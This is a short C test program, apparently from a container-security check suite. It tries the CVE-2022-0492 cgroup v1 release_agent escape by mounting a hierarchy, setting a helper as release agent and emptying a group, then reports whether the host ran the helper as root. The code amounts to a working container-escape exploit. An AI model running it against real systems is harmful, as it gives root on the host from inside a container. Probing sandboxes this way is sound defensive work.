// SPDX-License-Identifier: GPL-2.0-only
// CVE-2022-0492: the release agent of a hierarchy of version 1 is run as root of
// the host when a group becomes empty.
#include <sys/mount.h>

#include "kernel/helper.h"

#define HIERARCHY	"/tmp/hierarchy"

static void clean_up(void)
{
	int err = errno;

	rmdir(HIERARCHY "/empty");
	umount2(HIERARCHY, MNT_DETACH);
	rmdir(HIERARCHY);
	errno = err;
}

static int mount_hierarchy(void)
{
	NEED(!mkdir(HIERARCHY, 0700) || errno == EEXIST);
	return mount("none", HIERARCHY, "cgroup", 0, "none,name=stolen") &&
	       mount("none", HIERARCHY, "cgroup", 0, "devices") &&
	       mount("none", HIERARCHY, "cgroup", 0, "freezer") ? -1 : 0;
}

int main(void)
{
	pid_t pid;

	make_helper();
	if (mount_hierarchy() || mkdir(HIERARCHY "/empty", 0700) ||
	    put(HIERARCHY "/empty/notify_on_release", "1") ||
	    put(HIERARCHY "/release_agent", HELPER)) {
		clean_up();
		refused_helper("mount, release_agent");
	}
	pid = fork();
	if (!pid)
		_exit(put(HIERARCHY "/empty/cgroup.procs", "0"));
	waitpid(pid, NULL, 0);
	if (helper_ran()) {
		put(HIERARCHY "/release_agent", "");
		clean_up();
		worked("the host ran the release agent");
	}
	clean_up();
	refused("no release agent");
}
